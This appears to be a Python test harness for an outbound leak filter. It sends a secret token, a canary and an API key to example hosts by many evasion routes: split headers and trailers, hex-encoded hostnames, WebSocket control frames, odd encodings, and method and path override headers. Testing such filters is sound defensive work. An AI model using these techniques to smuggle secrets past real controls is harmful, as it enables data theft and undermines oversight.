"""The tool of gate_leak.sh: ways to get out what must not leave. usage: gate_leak.py WAY...; a line for each: its name, and "refused" or "went"."""
import base64
import os
import socket
import ssl
import subprocess
import sys
import time

token = open("token.txt", "rb").read()
canary = open("canary.txt", "rb").read()
key = os.environ.get("API_KEY", "").encode()


def connect(host="api.example.com"):
    s = ssl.create_default_context().wrap_socket(socket.create_connection((host, 443)), server_hostname=host)
    s.settimeout(3)
    return s


def talk(data, host="api.example.com"):
    s, out = connect(host), b""
    s.sendall(data)
    try:
        while True:
            d = s.recv(65536)
            out += d
            head, _, body = out.partition(b"\r\n\r\n")
            length = [int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
            if not d or (length and len(body) >= length[0] and not head.startswith(b"HTTP/1.1 1")):
                break
    except OSError:
        pass
    return out


def request(fields=(), body=None, host="api.example.com", path="/", method=None):
    lines = ["%s %s HTTP/1.1" % (method or ("GET" if body is None else "POST"), path), "Host: " + host]
    data = "\r\n".join(lines).encode() + b"\r\n"
    for name, value in fields:
        data += name + b": " + value + b"\r\n"
    if body is not None:
        data += b"Content-Length: %d\r\n" % len(body)
    return talk(data + b"\r\n" + (body or b""), host)


def frame(op, data, end=True):
    mask = b"\1\2\3\4"
    return bytes([(128 if end else 0) | op, 128 + len(data)]) + mask + bytes(x ^ mask[i % 4] for i, x in enumerate(data))


def websocket(*sent, fields=b""):
    s = connect()
    s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
              b"Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n" + fields + b"\r\n")
    out = b""
    while b"\r\n\r\n" not in out:
        out += s.recv(4096)
    for f in sent:
        s.sendall(f)
    try:
        while True:
            d = s.recv(4096)
            if not d:
                break
            out += d
    except OSError:
        pass
    return out


def curl(*words):
    return subprocess.run(["curl", "-sS", "-i", "-k", "-m", "5", *words], capture_output=True).stdout


def halves(send):
    send(canary[:13])
    return send(canary[13:])


def other_hosts():
    request([(b"x-n", canary[:13])])
    for i in range(70):
        curl("https://h%d.nowhere.test/" % i)
    return request([(b"x-n", canary[13:])])


def two_bodies():
    fields = [(b"Authorization", b"Bearer none")]
    request(fields, b"first " + token[:14])
    return request(fields, token[14:] + b" second")


packed = open("packed.br", "rb").read()
bearer = [(b"Authorization", b"Bearer " + key)]
WAYS = {
    "identity-and-br": lambda: request([(b"Content-Encoding", b"identity"), (b"content-encoding", b"br")], packed),
    "nothing-and-br": lambda: request([(b"Content-Encoding", b""), (b"Content-Encoding", b"br")], packed),
    "names-of-fields": lambda: request([(canary[:13], b"1"), (canary[13:], b"1")]),
    "names-of-trailers": lambda: talk(b"POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n" + canary[:13] + b": 1\r\n" + canary[13:] + b": 1\r\n\r\n"),
    "name-of-host": lambda: curl("https://" + canary.hex() + ".wild.example.net/"),
    "two-hosts": lambda: (request([(b"x-n", canary[:13])], host="a.wild.example.net"), request([(b"x-n", canary[13:])], host="b.wild.example.net"))[1],
    "other-hosts-between": other_hosts,
    "two-bodies": two_bodies,
    "ping": lambda: websocket(frame(9, token)),
    "pong-in-message": lambda: websocket(frame(1, b"hello ", False), frame(10, token), frame(0, b"world")),
    "pings-in-pieces": lambda: websocket(frame(9, canary[:13]), frame(9, canary[13:])),
    "close": lambda: websocket(frame(8, b"\x03\xe8" + token)),
    "utf-16": lambda: request([(b"Content-Type", b"text/plain; charset=utf-16")], ("the token is " + token.decode()).encode("utf-16")),
    "quoted-printable": lambda: request(body=b"".join(b"=%02X" % c for c in token)),
    "other-method": lambda: request([(b"X-HTTP-Method-Override", b"DELETE")], b"x", "paths.example.com", "/v1/x"),
    "other-path": lambda: request([(b"X_Original_URL", b"/admin")], b"x", "paths.example.com", "/v1/x"),
    # What must work.
    "works": lambda: request([(b"Content-Encoding", b"identity, identity")], b"all of it"),
    "works-packed": lambda: request([(b"Content-Encoding", b"br")], open("harmless.br", "rb").read()),
    "works-steered": lambda: request([(b"X-HTTP-Method-Override", b"DELETE"), (b"X-Forwarded-Host", b"evil.example")], b"x"),
    "works-set": lambda: request([(b"X_Org", b"theirs"), (b"x-ORG", b"theirs")], b"x"),
    "works-control": lambda: websocket(frame(9, b""), frame(1, b"hello ", False), frame(9, b"0123456789"), frame(0, b"world"), frame(9, b"beat 1234567"), frame(1, b"and on")),
}
WAYS["path-of-bytes"] = lambda: talk(b"GET /no-\xff-utf8 HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
WAYS["path-that-is-cut"] = lambda: talk(b"GET /" + b"a" * 298 + "é".encode() + b" HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
WAYS["path-of-nobody"] = lambda: talk(b"GET /denied-\xff HTTP/1.1\r\nHost: paths.example.com\r\n\r\n", "paths.example.com")
WAYS["path-that-is-long"] = lambda: request(path="/long/" + "a" * 2000 + "/end?and=more")
WAYS["works-host"] = lambda: talk(b"GET / HTTP/1.1\r\nHost: aPi.ExaMple.cOm:443\r\n\r\n")
WAYS["works-types"] = lambda: request([(b"Content-Type", b"application/octet-stream"), (b"Content-Type", b"application/json")], b'{"b" :1, "a":2}')
WAYS["works-rewritten"] = lambda: request(body=b"the token is " + token + b", and that is all")
for path in ("body", "slow", "field", "redirect", "hint", "error"):
    WAYS["key-" + path] = lambda path=path: request(bearer, path="/" + path)
    WAYS["key-h2-" + path] = lambda path=path: curl("-H", "Authorization: Bearer " + key.decode(), "https://api.example.com/" + path)
WAYS["key-h2-trailer"] = lambda: curl("-H", "Authorization: Bearer " + key.decode(), "https://api.example.com/trailer")
WAYS["key-ws"] = lambda: websocket(fields=b"Authorization: Bearer " + key + b"\r\n")
WAYS["key-packed"] = lambda: request(bearer + [(b"Accept-Encoding", b"gzip, br")])

for way in sys.argv[1:] or WAYS:
    reply = WAYS[way]()
    refused = b"postern_denied" in reply or b"Postern: " in reply or not reply
    with open("replies", "ab") as f:
        f.write(b"== " + way.encode() + b"\n" + reply + b"\n")
    print(way, "refused" if refused else "went", flush=True)
    time.sleep(0.1)
